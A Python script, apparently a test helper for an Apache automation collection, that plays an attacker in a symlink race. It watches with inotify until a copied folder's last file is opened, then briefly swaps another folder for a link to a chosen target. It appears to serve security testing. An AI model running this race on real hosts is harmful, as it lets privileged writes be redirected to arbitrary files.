# -*- coding: utf-8 -*-
# Copyright: (c) 2026, the webops.apache authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Runs on a test host, as an attacker: swaps a folder of his for a link once it was copied.

swap.py COPIED FOLDER TARGET   as soon as the last file in COPIED is opened, FOLDER is a link to
TARGET, for a second. Prints a line each time.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import ctypes
import os
import struct
import sys
import time

IN_OPEN = 0x20
HEADER = struct.calcsize('iIII')
# A file that takes a while to copy: that is the time to swap in.
LARGE = b'x' * 1000000
MOST_FILES = 1000


def make_last_file(folder):
    """Make files until a listing of the folder ends with one of them; return its name."""
    for number in range(MOST_FILES):
        name = 'data-%d' % number
        with open(os.path.join(folder, name), 'wb') as stream:
            stream.write(LARGE)
        if os.listdir(folder)[-1] == name:
            return name
        # One that is not the last must not be large: it would make the copy slow, and no more.
        with open(os.path.join(folder, name), 'wb'):
            pass
    return make_first_file(folder)


def make_first_file(folder):
    """Make the folder anew with the file first: a listing in memory ends with that."""
    fresh = folder + '.fresh'
    os.mkdir(fresh)
    with open(os.path.join(fresh, 'data-first'), 'wb') as stream:
        stream.write(LARGE)
    for name in os.listdir(folder):
        os.rename(os.path.join(folder, name), os.path.join(fresh, name))
    os.rmdir(folder)
    os.rename(fresh, folder)
    return os.listdir(folder)[-1]


def opened_names(descriptor):
    """Return the names of the files that were opened, once there is one."""
    data, found = os.read(descriptor, 65536), []
    while data:
        length = struct.unpack('iIII', data[:HEADER])[3]
        found.append(data[HEADER : HEADER + length].rstrip(b'\0').decode())
        data = data[HEADER + length :]
    return found


def main():
    """Swap the folder for the target at the moment in which the copied one is read."""
    copied, folder, target = sys.argv[1:4]
    libc = ctypes.CDLL(None, use_errno=True)
    name, descriptor = make_last_file(copied), libc.inotify_init()
    # Started by httpd, it makes its folder one that the server writes into.
    _kept = open(os.path.join(copied, name), 'r+b')
    if libc.inotify_add_watch(descriptor, copied.encode(), IN_OPEN) < 0:
        raise SystemExit('there is no watch to be had')
    print('ready')
    sys.stdout.flush()
    while True:
        while name not in opened_names(descriptor):
            pass
        os.rename(folder, folder + '.aside')
        os.symlink(target, folder)
        time.sleep(1)
        os.unlink(folder)
        os.rename(folder + '.aside', folder)
        print('swapped')


if __name__ == '__main__':
    main()
